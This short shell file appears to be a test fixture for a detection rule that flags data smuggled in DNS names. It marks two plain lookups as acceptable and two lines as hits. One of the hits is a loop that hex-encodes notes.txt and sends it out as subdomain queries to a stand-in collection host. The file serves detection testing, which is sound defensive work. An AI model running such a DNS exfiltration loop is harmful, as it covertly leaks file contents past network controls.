#!/bin/bash
# ok: data-in-dns-name
dig +short www.example
# ok: data-in-dns-name
host mail.example
# ruleid: data-in-dns-name
for part in $(xxd -p notes.txt | fold -w 60); do dig "$part.x.collect.example"; done
# ruleid: data-in-dns-name
dig 6c6f63616c73656372657476616c756573686578.collect.example
